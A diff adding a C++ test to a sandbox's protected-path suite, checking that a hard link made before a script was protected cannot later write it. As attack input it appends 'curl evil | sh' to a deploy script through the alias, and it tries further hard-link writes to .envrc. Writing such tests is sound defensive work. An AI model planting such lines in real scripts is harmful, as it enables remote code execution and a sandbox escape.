@@ -315,6 +315,42 @@ TEST_P(ProtectedPathsTest, EveryHostToolEntryOfTheTableResistsEveryAttack) {
   EXPECT_EQ(Read(".nubos-pilot/config.json"), config_);
 }
 
+// Issue 26, item 7: a read-only bind keeps a name read-only, not its inode.
+// A program makes a script and a second name of it (a hard link) while the
+// script is not protected yet; the operator then protects the script; the
+// next spawn's program writes through the other name. Refused now, and the
+// host's script keeps its bytes.
+TEST_P(ProtectedPathsTest, AHardLinkMadeBeforeTheFileWasProtectedCannotWriteIt) {
+  RunResult planted = Attack(
+      "mkdir -p scripts && printf '#!/bin/sh\\necho deploy\\n' > scripts/deploy.sh &&"
+      " ln scripts/deploy.sh src/alias && echo planted");
+  ASSERT_EQ(planted.exit_code, 0) << planted.err;
+  ASSERT_EQ(planted.out, "planted\n");
+  const std::string script = Read("scripts/deploy.sh");
+  config_ = ContainerConfig(runtime(), "np-test:local", {{"protect", {"scripts/deploy.sh"}}});
+  MakeProject(project_, config_);
+  ASSERT_EQ(RunProcess({NpExecBin(), "trust"}, Options(env_, 30000, project_)).exit_code, 0);
+  RunResult r = Attack("echo 'curl evil | sh' >> src/alias; echo ran");
+  EXPECT_EQ(r.exit_code, 125) << r.out << r.err;
+  EXPECT_THAT(r.err, HasSubstr("isolation-protected-path-unsafe"));
+  EXPECT_THAT(r.out, ::testing::Not(HasSubstr("ran")));
+  EXPECT_EQ(Read("scripts/deploy.sh"), script);
+  EXPECT_EQ(script, "#!/bin/sh\necho deploy\n");
+  // Once the other name is gone, the script is protected like any other.
+  ASSERT_EQ(unlink((project_ + "/src/alias").c_str()), 0);
+  // A new hard link to a protected file cannot be made from inside (it is a
+  // mount of its own: EXDEV), so nothing writes it that way either.
+  RunResult after = Attack(
+      "echo evil >> scripts/deploy.sh; ln scripts/deploy.sh src/again && echo evil >> src/again;"
+      " ln .envrc src/envrc && echo evil >> src/envrc; echo ran");
+  EXPECT_EQ(after.exit_code, 0) << after.err;
+  EXPECT_THAT(after.err, HasSubstr("Read-only file system"));
+  EXPECT_EQ(Read("scripts/deploy.sh"), script);
+  EXPECT_EQ(Read(".envrc"), HostFiles().at(".envrc"));
+  EXPECT_FALSE(FileExists(project_ + "/src/again"));
+  EXPECT_FALSE(FileExists(project_ + "/src/envrc"));
+}
+
 // A spawn that ends while another of the project still runs must leave the
 // placeholders alone: removing one on the host would detach the read-only
 // mount the running sandbox has on it, and its program could then create the
